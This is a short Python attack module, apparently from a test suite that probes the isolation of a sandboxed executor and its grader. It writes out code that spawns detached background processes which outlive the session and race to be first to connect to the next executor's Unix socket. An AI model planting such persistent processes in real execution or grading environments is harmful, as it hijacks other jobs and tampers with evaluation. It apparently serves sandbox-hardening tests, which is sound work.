"""Leaves processes, in the workbench and in the grader, that wait to be the first to connect to the next executor."""

from attack import MARK, POD_ADDRESS, Attack, code, python

CONNECT = """
import socket, sys, time
while True:
    one = socket.socket(socket.AF_UNIX)
    try:
        one.connect(sys.argv[1])
        time.sleep(1000)
    except OSError:
        time.sleep(0.001)
"""
WAIT = f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", {CONNECT!r}, address, "{MARK}"], start_new_session=True)
"""
ATTACK = Attack((python(POD_ADDRESS + WAIT), code(POD_ADDRESS + WAIT)), kinds=("pod",))
